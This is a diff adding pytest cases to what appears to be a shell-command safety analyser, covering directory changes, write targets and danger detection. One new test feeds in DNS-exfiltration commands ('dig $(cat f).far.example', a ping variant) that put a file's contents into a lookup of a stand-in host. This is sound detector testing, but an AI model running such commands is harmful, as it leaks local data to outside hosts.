@@ -159,6 +159,11 @@ def test_a_change_of_directory_may_have_failed(tmp_path_factory, moves, write):
     assert changed <= written(read(line)), line
 
 
+def test_a_change_of_directory_behind_an_alternative_is_not_believed(tmp_path_factory):
+    agree("cd no || cd sub && true && echo x > out", tmp_path_factory)
+    assert {"out", "sub/out"} <= written(read("cd no || cd sub && true && echo x > out"))
+
+
 def test_a_change_of_directory_that_is_asked_for_is_believed():
     assert written(read("cd sub && echo x > a")) == {"sub/a"}
     assert written(read("cd sub || exit 1; echo x > a")) == {"sub/a"}
@@ -243,3 +248,13 @@ def test_no_option_hides_a_secret_that_is_read(line):
 )
 def test_a_change_of_user_hides_no_danger(line):
     assert "rm-root" in read(line).dangers
+
+
+@pytest.mark.parametrize("line", ["dig $(cat f).far.example", "ping -c 1 `cat f`.far.example"])
+def test_the_output_of_a_command_does_not_leave_in_a_name(line):
+    assert "exfiltration" in read(line).dangers
+
+
+@pytest.mark.parametrize("line", ["info -o x sed", "hostnamectl hostname x", "lastlog -C -u x"])
+def test_a_program_that_states_something_may_change_it(line):
+    assert read(line).capability == "execute"
